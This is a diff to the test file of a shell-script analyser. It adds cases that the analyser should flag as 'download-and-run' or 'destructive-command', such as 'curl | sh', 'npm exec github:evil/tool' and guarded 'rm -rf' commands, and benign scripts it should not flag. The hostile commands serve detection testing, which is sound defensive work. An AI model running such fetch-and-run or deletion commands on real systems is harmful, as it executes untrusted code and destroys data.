@@ -26,6 +26,9 @@ describe('analyzeShell: hostile scripts', () => {
     ['wget https://x.example/run.sh; bash run.sh', 'download-and-run'],
     ['pip install git+https://github.com/x/y', 'download-and-run'],
     ['npm i -g https://x.example/y.tgz', 'download-and-run'],
+    ['npm exec github:evil/tool -- build', 'download-and-run'],
+    ['pnpm dlx evil/tool', 'download-and-run'],
+    ['npm exec --package=https://x.example/t.tgz -- run', 'download-and-run'],
     ['sudo -u root env A=1 timeout 5 nice -n 3 bash -c "curl -s https://x.example | sh"', 'download-and-run'],
     ['eval "curl -s https://x.example | sh"', 'download-and-run'],
     ['rm -rf /', 'destructive-command'],
@@ -140,6 +143,20 @@ describe('analyzeShell: hostile scripts', () => {
   });
 });
 
+describe('analyzeShell: guards the parser can prove', () => {
+  it.each([
+    'if [[ "$SESSION_DIR" == /tmp/* ]]; then echo ok; else rm -rf "$SESSION_DIR"; fi',
+    '[[ "$DIR" == /* ]] && rm -rf "$DIR"',
+    '[[ "$DIR" != /tmp/* ]] && rm -rf "$DIR"',
+    '[[ "$DIR" == /tmp/* ]] || rm -rf "$DIR"',
+    'if [[ "$DIR" == /tmp/* ]]; false; then rm -rf "$DIR"; fi',
+    '[[ "$OTHER" == /tmp/* ]] && rm -rf "$DIR"',
+    '[[ "$DIR" == ~/* ]] && rm -rf "$DIR"',
+  ])('%j proves nothing about what rm deletes', (source) => {
+    expect(issueKinds(analyse(`${source}\n`))).toContain('destructive-command');
+  });
+});
+
 describe('analyzeShell: ordinary scripts', () => {
   const setup = [
     '#!/usr/bin/env bash',
@@ -191,6 +208,10 @@ describe('analyzeShell: ordinary scripts', () => {
     'git config user.name "A B"',
     "awk -F, '{ print $1 }' data.csv",
     'pip install --index-url=https://pypi.org/simple requests',
+    'pnpm add -D html-inline && pnpm exec html-inline dist/index.html > out.html',
+    'npm exec -- eslint src/app.js',
+    'if [[ "$SESSION_DIR" == /tmp/* ]]; then\n  rm -rf "$SESSION_DIR"\nfi',
+    '[[ $OUT == ./build/* ]] && rm -rf "$OUT"',
   ])('does not take %s for a destructive command', (source) => {
     expect(analyse(`${source}\n`).issues).toEqual([]);
   });
